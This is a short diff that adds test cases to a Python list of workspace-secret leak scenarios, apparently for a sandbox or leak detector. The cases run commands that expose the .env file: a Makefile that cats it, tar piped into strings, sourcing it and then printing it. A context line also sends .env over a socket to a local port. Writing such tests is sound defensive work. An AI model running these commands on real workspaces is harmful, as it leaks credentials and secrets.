@@ -138,4 +138,11 @@ IN_THE_WORKSPACE = (
         "a script sends secrets of the workspace",
         "import socket\nsocket.create_connection(('127.0.0.1', @PORT@), 2).sendall(open('.env', 'rb').read())\n",
     ),
+    run("a makefile shows secrets of the workspace", "make -s", files={"Makefile": "all:\n\t@cat .e*\n"}),
+    run("secrets of the workspace are packed", "tar cf all.tar . && strings all.tar"),
+    run(
+        "secrets of the workspace are sourced and shown",
+        ". ./.env && python3 show.txt",
+        files={"show.txt": "import os\nprint(open('.env').read())\n"},
+    ),
 )
